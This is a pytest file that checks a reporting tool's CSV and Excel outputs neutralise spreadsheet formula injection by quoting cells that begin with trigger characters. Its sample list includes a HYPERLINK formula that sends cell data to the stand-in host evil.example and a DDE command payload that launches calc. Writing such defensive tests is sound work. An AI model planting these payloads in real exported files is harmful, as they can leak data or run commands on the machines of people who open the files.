"""Requester-controlled text in the report CSVs and workbook is never a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
from openpyxl import load_workbook

from connector.reporting.outputs.csv import write_csvs
from connector.reporting.outputs.xlsx import write_workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+2",
    "@SUM(A1:A2)",
    "+44 20 7946 0000",
    "-2+3",
    "\tleading tab",
    "\rleading CR",
    "-cmd|' /C calc'!A0",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _tables() -> dict[str, pd.DataFrame]:
    df = pd.DataFrame(
        {
            "reference": [f"R{i}" for i in range(len(HOSTILE))],
            "subject": HOSTILE,
            "requests": list(range(-3, len(HOSTILE) - 3)),  # negative numbers are numbers, not text
        }
    )
    return {"cases": df, "overdue": df.copy()}


def test_csv_cells_beginning_with_a_trigger_are_quoted_and_numbers_stay_numbers(tmp_path: Path) -> None:
    paths = write_csvs(_tables(), tmp_path)
    with (tmp_path / "cases.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    subjects = [r[1] for r in rows[1:]]
    assert subjects == ["'" + h for h in HOSTILE]  # the text is all there, after one quote
    assert [int(r[2]) for r in rows[1:]] == list(range(-3, len(HOSTILE) - 3))
    for path in paths:
        with path.open(encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                assert not any(cell.startswith(TRIGGERS) and not cell.lstrip("-").isdigit() for cell in row), row


def test_workbook_stores_text_as_strings_never_formulas(tmp_path: Path) -> None:
    path = write_workbook(_tables(), tmp_path / "report.xlsx")
    wb = load_workbook(path)  # not read-only: data_type is what the file says
    ws = wb[wb.sheetnames[0]]
    seen = []
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str) and cell.row > 1 and cell.column == 2:
                seen.append(cell.value)
    assert seen == ["'" + h.replace("\r", "\n") for h in HOSTILE]  # XML keeps no bare CR
    numbers = [ws.cell(row=r, column=3).value for r in range(2, len(HOSTILE) + 2)]
    assert numbers == list(range(-3, len(HOSTILE) - 3))
    raw = (tmp_path / "report.xlsx").read_bytes()
    import zipfile

    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name), name
    del raw
